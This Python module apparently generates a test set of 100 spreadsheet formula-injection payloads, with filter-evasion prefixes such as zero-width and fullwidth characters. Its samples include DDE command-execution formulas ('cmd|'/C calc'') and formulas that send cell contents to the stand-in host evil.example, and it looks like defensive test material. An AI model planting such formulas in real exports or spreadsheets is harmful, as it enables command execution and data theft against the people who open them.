"""A hundred cells that somebody might hope a spreadsheet program runs."""

# Harmless where they are evaluated: each would show a number, a link or an error in place of the words.
FORMULAS = (
    "=1+1",
    "=1+1;2",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "=SUM(1,1)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "=IF(1=1,2,3)",
    "='http://evil.example/[a.xlsx]Sheet1'!A1",
    "={1;2;3}",
    "=A1&B1",
    "=-1",
    '="a"&"b"',
    "==1+1",
)
# What one program or another skips before it looks for a formula.
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "   ",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u3000",
    '"',
    "'",
    '""',
    "\x0b",
    "\u200e",
)
WIDE = str.maketrans("=+-@", "＝＋－＠")

PAYLOADS = list(
    dict.fromkeys(
        [
            *FORMULAS,
            *(before + formula for before in BEFORE[1:] for formula in FORMULAS[:5]),
            *(formula.translate(WIDE) for formula in FORMULAS[:5]),
        ]
    )
)[:100]
assert len(PAYLOADS) == 100
